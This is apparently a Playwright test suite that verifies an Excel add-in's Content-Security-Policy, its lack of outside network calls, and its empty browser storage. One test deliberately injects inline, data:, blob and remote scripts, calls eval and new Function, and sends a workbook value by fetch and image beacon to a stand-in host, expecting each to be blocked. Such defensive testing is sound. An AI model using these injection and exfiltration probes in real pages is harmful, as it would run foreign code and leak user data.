// What the pages may load, run and keep: nothing from elsewhere, no text as a program, nothing of the workbook outside the workbook.
import type { Frame, Page } from 'playwright-core';
import { press, Preview } from './preview-page';

jest.setTimeout(120_000);

declare global {
  interface Window {
    violations?: string[];
    ran?: string[];
  }
}

let preview: Preview;
let page: Page;
const frame = (part: string): Frame => page.frames().find((one) => one.url().includes(part))!;
const PAGES = [
  ['the pane', 'taskpane.html'],
  ['the page around it', '/?'],
] as const;

beforeAll(async () => {
  preview = await Preview.start();
  page = await preview.open('?security', {
    prepare: (fresh) =>
      fresh.context().addInitScript(() => {
        window.violations = [];
        addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
          window.violations?.push(`${effectiveDirective} ${blockedURI}`),
        );
      }),
  });
  await press(page, 'check');
  await press(page, 'fill');
});
afterAll(() => preview.stop());

test('a check and a fill ask no other host, break no policy and make no complaint', async () => {
  expect(preview.outside).toEqual([]);
  expect(preview.complaints).toEqual([]);
  expect(page.frames()).toHaveLength(2);
  for (const one of page.frames()) expect(await one.evaluate(() => window.violations)).toEqual([]);
});

test.each(PAGES)('%s: the policy names no other host and lets no text be run', async (_name, part) => {
  const metas = await frame(part)
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .evaluateAll((all) => all.map((meta) => meta.getAttribute('content') ?? ''));
  expect(metas).toHaveLength(1);
  const directives = new Map(
    metas[0]!.split(';').map((one) => {
      const [name = '', ...sources] = one.trim().split(/\s+/);
      return [name, sources] as const;
    }),
  );
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  for (const nothing of ['object-src', 'base-uri', 'form-action']) {
    expect(directives.get(nothing)).toEqual(["'none'"]);
  }
  const sources = new Set([...directives.values()].flat());
  for (const source of sources)
    expect(["'self'", "'none'", "'unsafe-inline'", 'data:', 'blob:']).toContain(source);
  // Fluent UI and Office.js put style elements into the page; a page from a plain server has no nonce. Styles only.
  const inline = [...directives].filter(([, allowed]) => allowed.includes("'unsafe-inline'"));
  expect(inline.map(([name]) => name)).toEqual(['style-src']);
});

test('the pane holds to it: no inline script, no text as a program, nothing from another host', async () => {
  const pane = frame('taskpane.html');
  const ran = await pane.evaluate(async () => {
    window.ran = [];
    const soon = (milliseconds: number): Promise<void> =>
      new Promise((done) => setTimeout(done, milliseconds));
    const add = (script: Partial<HTMLScriptElement>): unknown =>
      document.body.appendChild(Object.assign(document.createElement('script'), script));
    add({ textContent: 'window.ran.push("inline")' });
    add({ src: 'data:text/javascript,window.ran.push("data")' });
    add({ src: URL.createObjectURL(new Blob(['window.ran.push("blob")'])) });
    add({ src: 'https://elsewhere.invalid/script.js', onload: () => window.ran?.push('elsewhere') });
    // Later, for what a debugger runs at once may do more than the page.
    setTimeout(() => {
      try {
        window.ran?.push(`eval ${String((0, eval)('1'))}`);
      } catch {
        window.ran?.push('eval refused');
      }
      try {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval
        const made = new Function('return 1') as () => number;
        window.ran?.push(`Function ${made()}`);
      } catch {
        window.ran?.push('Function refused');
      }
    }, 0);
    const sent = await fetch('https://elsewhere.invalid/', {
      method: 'POST',
      mode: 'no-cors',
      body: '402.03',
    }).then(
      () => 'sent',
      () => 'not sent',
    );
    const beacon = new Image();
    beacon.src = 'https://elsewhere.invalid/402.03.png';
    await soon(500);
    return [...window.ran, sent];
  });
  expect(ran).toEqual(['eval refused', 'Function refused', 'not sent']);
  const broken = await pane.evaluate(() => window.violations);
  expect(broken).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'script-src-elem data',
      'script-src-elem blob',
      'script-src-elem https://elsewhere.invalid/script.js',
      'script-src eval',
      'connect-src https://elsewhere.invalid/',
      'img-src https://elsewhere.invalid/402.03.png',
    ]),
  );
});

test.each(PAGES)('%s: nothing of the workbook is kept outside it', async (_name, part) => {
  const kept = await frame(part).evaluate(async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage) as [string, string][],
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    cookie: document.cookie,
    name: window.name,
  }));
  // The two of Office.js, for as long as the window is open: which Excel this is, and its settings, of which we have none.
  const officeOwn: Record<string, RegExp> = {
    hostInfoValue: /^Excel\$Win32\$16\.\d+\$zh-CN\$[0-9a-f-]*\$\$disableLogging\$$/,
    undefinedCachedSessionSettings: /^\{\}$/,
  };
  for (const [key, value] of kept.session) {
    expect(Object.keys(officeOwn)).toContain(key);
    expect(value).toMatch(officeOwn[key]!);
  }
  expect(kept).toMatchObject({ local: [], databases: [], caches: [], workers: 0, cookie: '' });
  expect(await page.context().cookies()).toEqual([]);
});
